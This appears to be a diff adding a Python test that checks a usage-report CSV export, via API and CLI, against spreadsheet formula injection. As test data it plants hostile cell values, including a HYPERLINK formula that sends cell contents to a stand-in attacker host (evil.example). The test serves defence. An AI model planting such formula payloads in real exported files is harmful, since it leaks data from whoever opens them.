@@ -150,3 +150,47 @@ def test_a_huge_parameter_is_not_echoed_whole(client: TestClient, admin: dict[st
     assert response.status_code == 400
     message = response.json()["message"]
     assert message.startswith("'from' must be an ISO date") and len(message) <= 500, len(message)
+
+
+def test_csv_cells_cannot_run_as_spreadsheet_formulas(
+    client: TestClient, admin: dict[str, str], recorded: dict[str, str], app: FastAPI,
+    settings: CoreSettings, monkeypatch: pytest.MonkeyPatch,
+) -> None:  # fmt: skip
+    """An e-mail or a group name an attacker chose, opened by an admin in Excel or LibreOffice: a cell
+    starting with = + - @ (or a tab or carriage return) is a formula there, so it gets a leading quote
+    (OWASP's CSV injection advice), in the API's download and in the CLI's --csv alike."""
+    import csv
+    import io
+
+    hostile = ["=2+3@example.org", "+1@example.org", "-1@example.org", "@sum@example.org", "\tx@example.org"]
+    with app.state.context.sessions() as db:
+        for email in hostile:
+            db.add(User(email=email, name="", auth_provider="local", subject=email))
+        db.flush()
+        users = {u.email: u.id for u in db.execute(select(User)).scalars()}
+        group = Group(name='=HYPERLINK("http://evil.example/?"&A1)')
+        db.add(group)
+        db.flush()
+        for email in hostile:
+            hour = {"start_s": s(4), "end_s": s(4, 1), "seen_s": s(4, 1)}
+            db.add(UsageInterval(environment_id=f"e{users[email]}", user_id=users[email], application="files",
+                                 preset="light", cpu=1, memory_gib=1, **hour))  # fmt: skip
+            db.add(GroupMember(group_id=group.id, user_id=users[email]))
+        db.commit()
+
+    def cells(text: str) -> list[str]:
+        return [cell for row in csv.reader(io.StringIO(text)) for cell in row[:2]]
+
+    period = {"from": "2026-11-01", "to": "2026-12-01", "format": "csv"}
+    by_user = client.get("/api/v1/usage", headers=admin, params={**period, "group_by": "user"})
+    by_group = client.get("/api/v1/usage", headers=admin, params={**period, "group_by": "group"})
+    monkeypatch.setenv("CMBCLUSTER_DATA_DIR", str(settings.data_dir))
+    cli_csv = CliRunner().invoke(cli, ["usage", "report", "--month", "2026-11", "--csv"])
+    assert cli_csv.exit_code == 0, cli_csv.output
+    for text in (by_user.text, by_group.text, cli_csv.output):
+        written = cells(text)
+        assert not [cell for cell in written if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], written
+    assert "'=2+3@example.org" in cells(by_user.text) and "'\tx@example.org" in cells(cli_csv.output)
+    assert """'=HYPERLINK("http://evil.example/?"&A1)""" in cells(by_group.text)
+    # numbers stay numbers, and plain names stay as they are
+    assert "alice@example.org" in cells(by_user.text) and ",1.4," in by_user.text
